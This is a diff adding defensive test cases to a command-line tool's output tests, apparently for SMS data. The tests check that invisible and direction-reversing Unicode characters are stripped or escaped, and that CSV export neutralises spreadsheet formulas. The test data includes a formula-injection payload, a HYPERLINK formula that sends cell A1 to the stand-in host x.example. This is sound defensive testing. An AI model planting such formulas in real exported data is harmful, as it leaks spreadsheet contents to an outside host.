@@ -2,7 +2,7 @@ import { spawn } from 'node:child_process';
 import { once } from 'node:events';
 import { join } from 'node:path';
 import { toCsv } from '../../src/cli/csv';
-import { toJson } from '../../src/cli/terminal';
+import { printable, toJson } from '../../src/cli/terminal';
 import { ScriptedSinch } from '../sinch/scripted-sinch';
 import { typed } from '../support/command-line';
 import { json } from '../support/scripted-server';
@@ -40,6 +40,81 @@ describe('a terminal is not at the mercy of what Sinch and senders write', () =>
   it.each(ESCAPES)('in CSV (%j)', (escape) => {
     expect(toCsv([['2026', escape]])).not.toMatch(/[^\P{Cc}\r\n]/u);
     expect(toCsv([[`${escape}=1+1`]])).not.toMatch(/^\s*=/);
+  });
+});
+
+/** Each of a kind: of direction, without width, of another plane, and half a character. */
+const UNSEEN = [
+  '\u202e',
+  '\u2066',
+  '\u061c',
+  '\u200b',
+  '\u2060',
+  '\u00ad',
+  '\ufeff',
+  '\u2028',
+  '\u2029',
+  '\u3164',
+  '\ufe0f',
+];
+UNSEEN.push('\u{e0041}', '\u{1d173}', '\ud83d');
+
+describe('a character that cannot be seen, or turns the writing round,', () => {
+  it.each(UNSEEN)('is not printed: a text would show as another than it is (%j)', (unseen) => {
+    expect(printable(`+61${unseen}${unseen}8`)).toBe('+61 8');
+  });
+
+  it.each(UNSEEN)('is escaped in JSON, which says the same nevertheless (%j)', (unseen) => {
+    const written = toJson({ [unseen]: unseen });
+    expect(written).toMatch(/^[\x20-\x7e\n]*$/);
+    expect(JSON.parse(written)).toEqual({ [unseen]: unseen });
+  });
+
+  it('is all that is taken out: names in any script are printed as they are', () => {
+    const seen = 'Zoë Ångström 王芳 Мария شركة ไทย 👩 +61 480 000 000';
+    expect(printable(seen)).toBe(seen);
+    expect(JSON.parse(toJson(seen))).toBe(seen);
+    expect(toJson(seen)).toContain(seen);
+  });
+});
+
+describe('a spreadsheet', () => {
+  /** As a spreadsheet takes it apart that separates by commas, and one that separates by semicolons. */
+  const cells = (csv: string) => [
+    ...csv.split(/\r?\n/).flatMap((line) => line.split(';')),
+    ...[...csv.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/gm)].map(([, quoted, bare]) => quoted ?? bare ?? ''),
+  ];
+  const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+  const before = [
+    '',
+    ' ',
+    '\t',
+    '\r',
+    '\u00a0',
+    '\u200b',
+    '\u2060',
+    '\u00ad',
+    '\ufeff',
+    '\u3000',
+    '"',
+    '; ',
+    'bob;',
+    'bob;"',
+    'bob\n',
+    'a,b;\t',
+  ];
+
+  it.each(starts.flatMap((start) => before.map((text) => [`${text}${start}HYPERLINK("http://x.example/?"&A1)`])))(
+    'runs no formula of what people have written as %j',
+    (text) => {
+      const formulas = cells(toCsv([['2026', text, 'ok']])).filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell));
+      expect(formulas).toEqual([]);
+    },
+  );
+
+  it('shows as it is what is no formula', () => {
+    const row = ['2026-01-31T18:00:00Z', 'ref-1', 'a=b; c', 'said "no", twice'];
+    expect(toCsv([row])).toBe('2026-01-31T18:00:00Z,ref-1,a=b; c,"said ""no"", twice"\r\n');
   });
 });
 
